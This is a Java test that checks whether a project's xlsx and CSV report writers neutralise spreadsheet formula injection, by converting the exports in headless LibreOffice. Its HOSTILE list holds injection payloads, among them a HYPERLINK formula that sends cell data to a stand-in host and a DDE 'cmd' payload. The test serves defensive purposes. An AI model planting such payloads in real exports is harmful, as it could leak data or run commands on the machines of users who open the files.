package org.onewindow.document;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.File;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.onewindow.OtherProgram;
import org.onewindow.review.report.Report;
import org.onewindow.review.report.ReportTable;
import org.onewindow.review.report.ReportWriter;

/** Opens the files of a report in LibreOffice, where it is installed, and has it write down what it took the cells for. */
class LibreOfficeTest {
    /** It starts in a second or two; the first time on a machine takes longer. */
    private static final long PATIENCE = 120;

    private static final String UNCHANGED = "王小明, plain";

    /** What a spreadsheet program calculates, or would ask the network for, if it took it for a formula; and dates and figures it would rewrite. */
    private static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"https://thief.invalid/?\"&A1,\"open me\")",
            "=40+2",
            "+1",
            "+40+2",
            "-1",
            "-40-2",
            "@SUM(40,2)",
            "\t=40+2",
            "\r=40+2",
            "\n=40+2",
            " =40+2",
            "\u00A0=40+2",
            "\u3000=40+2",
            "\uFEFF=40+2",
            "\uFF1D40+2",
            "\uFF0B40+2",
            "\uFF0D40+2",
            "\uFF20SUM(40,2)",
            "'=40+2",
            "{=40+2}",
            "=cmd|' /C calc'!A0",
            "a;=40+2",
            "a\n=40+2",
            "\"=40+2");

    @TempDir
    private Path folder;

    /** Formulas in files without types are calculated, where the user ticked that: the worst that can happen. */
    private static final String READ = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true";

    private static final String WRITE = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1";

    @Test
    void everyCellThatLooksLikeAFormulaIsItsTextInASpreadsheetProgram() throws Exception {
        Path soffice = installed();
        write(new SpreadsheetReport(), "book.xlsx");
        write(new CsvReport(), "values.csv");
        Files.writeString(folder.resolve("careless.csv"), "=40+2,+1\n");

        convert(soffice, "book.xlsx", "values.csv", "careless.csv");

        assertThat(rows("careless"))
                .as("a file that was written without care is calculated, so that this test would notice")
                .containsExactly(List.of("42", "1"));
        expectText("book");
        expectText("values");
    }

    private void expectText(String file) throws IOException {
        List<List<String>> rows = rows(file);
        List<String> firsts = rows.stream().map(row -> row.get(0)).toList();
        for (String cell : HOSTILE) {
            String text = cell.replaceAll("[\t\r\n]", " ");
            assertThat(firsts).as("%s: what became of %s", file, cell).containsAnyOf(text, "'" + text);
        }
        assertThat(rows.stream().flatMap(List::stream))
                .as("nothing was calculated")
                .doesNotContain("42", "-42", "open me", "1")
                .contains(UNCHANGED);
    }

    /** LibreOffice's program, or nothing of this is looked at. */
    private static Path installed() {
        Optional<Path> found = Stream.concat(
                        Arrays.stream(System.getenv().getOrDefault("PATH", "").split(File.pathSeparator)),
                        Stream.of("/usr/bin", "/opt/libreoffice/program"))
                .filter(directory -> !directory.isBlank())
                .map(directory -> Path.of(directory, "soffice"))
                .filter(Files::isExecutable)
                .findFirst();
        OtherProgram.need(found.isPresent(), "LibreOffice (soffice)", LibreOfficeTest.class);
        return found.get();
    }

    private void write(ReportWriter writer, String name) throws IOException {
        try (OutputStream out = Files.newOutputStream(folder.resolve(name))) {
            writer.write(report(), out);
        }
    }

    private void convert(Path soffice, String... names) throws Exception {
        List<String> command = new ArrayList<>(List.of(
                soffice.toString(),
                "-env:UserInstallation=" + folder.resolve("profile").toUri(),
                "--headless",
                "--norestore",
                "--infilter=" + READ,
                "--convert-to",
                WRITE,
                "--outdir",
                folder.resolve("converted").toString()));
        Arrays.stream(names).map(name -> folder.resolve(name).toString()).forEach(command::add);
        Process process = new ProcessBuilder(command)
                .redirectErrorStream(true)
                .redirectOutput(folder.resolve("soffice.log").toFile())
                .start();
        try {
            assertThat(process.waitFor(PATIENCE, TimeUnit.SECONDS))
                    .as("it ended")
                    .isTrue();
        } finally {
            process.descendants().forEach(ProcessHandle::destroyForcibly);
            process.destroyForcibly();
        }
    }

    /** The rows of all sheets of a file. */
    private List<List<String>> rows(String name) throws IOException {
        List<List<String>> rows = new ArrayList<>();
        try (Stream<Path> files = Files.list(folder.resolve("converted"))) {
            for (Path file : files.filter(each -> each.getFileName().toString().startsWith(name))
                    .sorted()
                    .toList()) {
                try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(Files.readString(file))) {
                    reader.stream().map(CsvRecord::getFields).forEach(rows::add);
                }
            }
        }
        assertThat(rows).as(Files.readString(folder.resolve("soffice.log"))).isNotEmpty();
        return rows;
    }

    private static Report report() {
        return new Report(
                "=40+2",
                List.of("=40+2"),
                List.of(new Report.Fact("=40+2", "=40+2", "=40+2")),
                List.of(),
                new ReportTable(
                        List.of("Words", "Beside"),
                        HOSTILE.stream().map(cell -> List.of(cell, UNCHANGED)).toList(),
                        ""),
                Optional.of(new Report.Seal("=40+2", "=40+2\n@SUM(40,2)\n")));
    }
}
